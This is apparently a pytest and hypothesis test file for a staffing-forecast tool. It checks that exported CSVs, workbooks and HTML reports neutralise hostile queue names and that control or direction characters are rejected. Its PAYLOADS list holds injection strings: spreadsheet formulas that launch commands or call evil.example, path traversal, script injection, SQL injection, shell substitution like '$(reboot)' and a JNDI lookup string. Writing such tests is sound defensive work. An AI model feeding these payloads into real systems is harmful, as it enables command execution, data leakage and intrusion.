"""Names that mean harm: to spreadsheets, paths, pages and terminals."""

import csv
import io
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from forecast.errors import ConfigError, TableError
from forecast.tables import Form, csv_bytes, read_text_table
from staffing.pipeline import plan_month
from staffing.report.folder import write_plan

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","click")',
    "+1+1",
    "+cmd|'/C calc'!A0",
    "-1+1",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)",
    '@SUM(1+9)*cmd|"/C calc"!A0',
    " =1+1",
    "'=1+1",
    "''=1+1",
    "=1+1;=2+2",
    "=1+1,=2+2",
    '"=1+1',
    '=IMPORTXML("http://evil.example/"&A1,"//a")',
    '=WEBSERVICE("http://evil.example")',
    "=DDE(1,2,3)",
    "=A1",
    "=SUM(A1:A9)",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "{=1+1}",
    "%0A=1+1",
    "../../etc/passwd",
    "..\\..\\windows",
    "/etc/cron.d/x",
    "C:\\x",
    "CON",
    "NUL",
    "a" * 300,
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "&lt;b&gt;",
    "x'); DROP TABLE plans;--",
    "$(reboot)",
    "`reboot`",
    "{{7*7}}",
    "${jndi:ldap://evil.example}",
    "$\\alpha$",
]
LIVE = re.compile(r"\s*[=+\-@＝＋－＠]")
NAMES = st.text(
    st.characters(exclude_categories=["Cc", "Cf", "Cs", "Zl", "Zp"]), min_size=1
).map(str.strip)
HARMFUL = st.one_of(
    st.sampled_from(PAYLOADS),
    st.builds(str.__add__, st.sampled_from("=+-@'\"; ,＝"), NAMES),
    NAMES,
).filter(lambda name: name.strip() == name != "")


def check_names(names, place):
    """No cell of the CSV is live, and it is read as it was."""
    data = csv_bytes(pd.DataFrame({"queue": names, "net": [-1.5] * len(names)}))
    rows = list(csv.reader(io.StringIO(data.decode())))[1:]
    assert not [name for name, _ in rows if LIVE.match(name)]
    assert {number for _, number in rows} == {"-1.5"}
    path = place / "names.csv"
    path.write_bytes(data)
    read, findings = read_text_table(path, Form(separator=","))
    assert findings == []
    assert read["queue"].tolist() == names


@given(names=st.lists(HARMFUL, min_size=1, max_size=20))
@settings(max_examples=50)
def test_no_name_is_a_formula_in_a_csv_and_each_is_read_as_it_was(
    names, tmp_path_factory
):
    check_names(names, tmp_path_factory.getbasetemp())


@pytest.mark.soak
@given(names=st.lists(HARMFUL, min_size=20, max_size=20))
@settings(max_examples=500)
def test_none_of_10000_names_is_a_formula(names, tmp_path_factory):
    check_names(names, tmp_path_factory.getbasetemp())


def plan_of(names, centre, folder):
    plan = plan_month(centre(calls=dict.fromkeys(names, 20.0)))
    write_plan(plan, folder)
    return plan


def test_a_plan_for_harmful_names_is_a_plan(centre, tmp_path, quick_pictures):
    names = [name for name in PAYLOADS if name.strip() == name][::4]
    before = set(tmp_path.rglob("*"))
    plan_of(names, centre, tmp_path / "out")
    made = set(tmp_path.rglob("*")) - before
    places = {path.parent for path in made} - {tmp_path, tmp_path / "out"}
    assert places == set()
    table, _ = read_text_table(tmp_path / "out" / "staffing.csv", Form(separator=","))
    assert set(table["queue"]) == set(names)
    page = (tmp_path / "out" / "report.html").read_text()
    assert "<script>alert" not in page
    assert "<img src=x" not in page


@pytest.mark.soak
@pytest.mark.skipif(not shutil.which("soffice"), reason="there is no LibreOffice")
def test_libreoffice_finds_no_formula_in_a_plan(centre, tmp_path):
    names = [name for name in PAYLOADS if name.strip() == name and name[0] != "'"]
    plan_of(names, centre, tmp_path / "out")
    for name in ("staffing.csv", "forecast.csv", "monthly.csv"):
        subprocess.run(
            [
                *("soffice", "--headless", "--convert-to", "fods"),
                *("--outdir", tmp_path, tmp_path / "out" / name),
            ],
            check=True,
            capture_output=True,
        )
        text = (tmp_path / name).with_suffix(".fods").read_text()
        assert "table:formula" not in text
        assert "office:value-type=" in text


def test_a_workbook_holds_no_formula(centre, tmp_path, quick_pictures):
    from staffing.exporting import export_forecast

    names = [name for name in PAYLOADS if name.strip() == name][::6]
    plan_of(names, centre, tmp_path / "out")
    data = export_forecast(tmp_path / "out", "xlsx").data
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheets = [name for name in book.namelist() if "sheets/" in name]
        assert sheets
        assert not [name for name in sheets if b"<f>" in book.read(name)]


@pytest.mark.parametrize("sign", ["\x1b[31m", "\x00", "\x07", "\u202e", "\u200b"])
def test_signs_that_are_not_seen_are_refused_with_their_rows(sign, centre):
    path = centre(calls={"Sales": 20.0, f"S{sign}ales": 20.0})
    if sign == "\x00":  # such a file is not even text
        with pytest.raises(TableError, match="must be text"):
            plan_month(path)
        return
    with pytest.raises(TableError) as caught:
        plan_month(path)
    assert str(caught.value).startswith(
        "history.csv: queue must have no control characters nor direction marks, but "
        f"has: row 262 ({f'S{sign}ales'!r}); row 263 ("
    )


def test_a_group_with_such_signs_is_refused(centre):
    config = Path(centre()).read_text() + '\n[groups]\n"A\\u202eB" = ["Sales"]\n'
    with pytest.raises(ConfigError) as caught:
        plan_month(centre(config))
    assert r"'A\u202eB' has control characters or direction marks" in str(caught.value)
